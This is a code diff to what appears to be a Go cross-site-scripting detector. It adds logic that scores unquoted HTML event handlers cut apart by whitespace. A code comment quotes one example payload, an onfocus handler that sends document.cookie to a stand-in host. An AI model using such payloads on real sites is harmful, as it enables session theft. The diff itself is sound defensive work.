@@ -147,6 +147,7 @@ func htmlFindingDepth(st *state, v string, offset, origLen int, skipAttr string,
 				httpEquivRefresh bool
 				animHref         bool
 			)
+			cuts := 0
 			for hasAttr {
 				var key, val []byte
 				key, val, hasAttr = z.TagAttr()
@@ -157,6 +158,12 @@ func htmlFindingDepth(st *state, v string, offset, origLen int, skipAttr string,
 				a := attrJudge(st, tag, k, string(val))
 				if a.conf > 0 {
 					add(a.conf, a.reason)
+				}
+				if a.conf > 0 && a.conf < 75 && isHandler(k) && cuts < maxCuts {
+					cuts++ // each look re-reads the tag: bounded per tag
+					if c, why := cutHandler(st, string(raw), k); c > 0 {
+						add(c, why)
+					}
 				}
 				switch {
 				case k == "http-equiv" && strings.EqualFold(strings.TrimSpace(string(val)), "refresh"):
@@ -469,7 +476,7 @@ func attrBreakout(st *state, v string) (detect.Finding, bool) {
 		if w.open[len(w.open)-1] == '\'' && strings.IndexByte(v, '\'') < 0 {
 			continue
 		}
-		if w.open[len(w.open)-1] == '=' && strings.IndexAny(v, " \t\n/") < 0 {
+		if w.open[len(w.open)-1] == '=' && !strings.ContainsAny(v, " \t\n/") {
 			continue
 		}
 		doc := w.open + v + w.close
@@ -506,4 +513,49 @@ func jsAssigns(src string) bool {
 		return i > 0
 	}
 	return false
+}
+
+// maxCuts bounds cutHandler's looks per tag.
+const maxCuts = 2
+
+func isHandler(k string) bool { return len(k) > 2 && k[0] == 'o' && k[1] == 'n' && isLetters(k[2:]) }
+
+// cutHandler judges what an unquoted event handler was meant to hold:
+// "onfocus=new Image().src='//x/?'+document.cookie" ends, for the
+// tokenizer, at the first blank ("new"), and the rest becomes attribute
+// names. The text from the handler's value to the end of the tag is read
+// as script; when it reaches an execution or exfiltration sink, the
+// intent is plain even though this copy would not run.
+func cutHandler(st *state, raw, k string) (int, string) {
+	i := indexFold(raw, k)
+	if i < 0 {
+		return 0, ""
+	}
+	rest := raw[i+len(k):]
+	j := 0
+	for j < len(rest) && (rest[j] == ' ' || rest[j] == '\t' || rest[j] == '\n') {
+		j++
+	}
+	if j >= len(rest) || rest[j] != '=' {
+		return 0, ""
+	}
+	rest = strings.TrimLeft(rest[j+1:], " \t\n")
+	if rest == "" || rest[0] == '"' || rest[0] == '\'' {
+		return 0, "" // quoted: the tokenizer read the whole value
+	}
+	rest = strings.TrimSuffix(strings.TrimSuffix(rest, ">"), "/")
+	if r := scanJS(st, rest); r.ev.score() >= 80 {
+		return 78, "event handler " + k + " cut by a blank: " + r.ev.reason()
+	}
+	return 0, ""
+}
+
+// indexFold is strings.Index ignoring ASCII case, without allocating.
+func indexFold(s, sub string) int {
+	for i := 0; i+len(sub) <= len(s); i++ {
+		if hasPrefixFold(s[i:], sub) {
+			return i
+		}
+	}
+	return -1
 }
